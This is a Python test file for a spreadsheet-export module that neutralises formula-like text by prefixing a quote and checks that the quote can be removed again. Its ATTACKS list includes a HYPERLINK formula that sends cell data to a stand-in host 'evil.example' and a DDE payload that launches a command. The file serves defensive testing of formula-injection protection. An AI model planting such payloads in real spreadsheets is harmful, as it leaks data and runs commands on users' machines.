"""frisat.cells: one neutralisation of formula-like text for every spreadsheet Frisat writes."""

from __future__ import annotations

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from frisat.cells import neutralise, neutralise_arrow, neutralise_table, neutralise_value, restore, restore_arrow

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+45 12 34 56",
           "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_leading_quote_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Børnehuset Vuggen", "", "'", "''", "Ja - men", "3 = tre", "'citat'"])
def test_ordinary_text_is_untouched(text):
    assert neutralise(text) == text and restore(text) == text


def test_a_quote_before_a_formula_character_survives_the_round_trip():
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"


def test_danish_text_starting_with_a_dash_gets_the_quote_too():
    assert neutralise("- se bilag") == "'- se bilag"


def test_numbers_are_not_text_and_stay_numbers():
    assert neutralise_value(-3) == -3 and neutralise_value(-2.5) == -2.5 and neutralise_value(None) is None
    table = neutralise_table(pa.table({"enhed": ["=A1", "Vugge"], "gennemsnit": [-1.5, 2.0], "n": [-1, 7]}))
    assert table.column("enhed").to_pylist() == ["'=A1", "Vugge"]
    assert table.column("gennemsnit").to_pylist() == [-1.5, 2.0] and table.column("n").to_pylist() == [-1, 7]
    assert table.schema.field("gennemsnit").type == pa.float64()


def test_arrow_plain_dictionary_and_chunked_arrays_agree_with_the_scalar_function():
    values = [*ATTACKS, "Vugge", None, "'=x"]
    expected = [None if v is None else neutralise(v) for v in values]
    assert neutralise_arrow(pa.array(values)).to_pylist() == expected
    assert neutralise_arrow(pa.array(values).dictionary_encode()).to_pylist() == expected
    chunked = pa.chunked_array([pa.array(values[:3], pa.large_string()), pa.array(values[3:], pa.large_string())])
    assert neutralise_arrow(chunked).to_pylist() == expected
    assert restore_arrow(neutralise_arrow(pa.array(values))).to_pylist() == values


@given(st.text())
def test_restore_undoes_neutralise_for_every_text(text):
    assert restore(neutralise(text)) == text
    assert restore_arrow(neutralise_arrow(pa.array([text]))).to_pylist() == [text]
    assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
